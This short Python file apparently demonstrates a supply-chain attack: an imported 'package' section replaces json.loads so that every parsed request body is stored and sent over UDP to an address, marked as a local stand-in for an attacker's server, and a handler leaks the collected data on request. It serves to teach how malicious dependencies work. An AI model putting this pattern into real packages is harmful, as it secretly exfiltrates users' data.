"""A handler, and what a package that it imports does: here in one file."""

import json
import socket

# ---- the package: whoever imports it has json.loads replaced
_collected = []  # stands for the server of the attacker's
_loads = json.loads


def _copying_loads(text, **options):
    value = _loads(text, **options)
    _collected.append(text)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(str(text).encode(), ("127.0.0.1", 9))  # in the wild: an address of somebody's
    return value


json.loads = _copying_loads


# ---- the function
def handler(event, context):
    order = json.loads(event["body"])
    if order.get("item") == "what was collected":
        return {"collected": list(_collected)}
    return {"ordered": order["item"]}
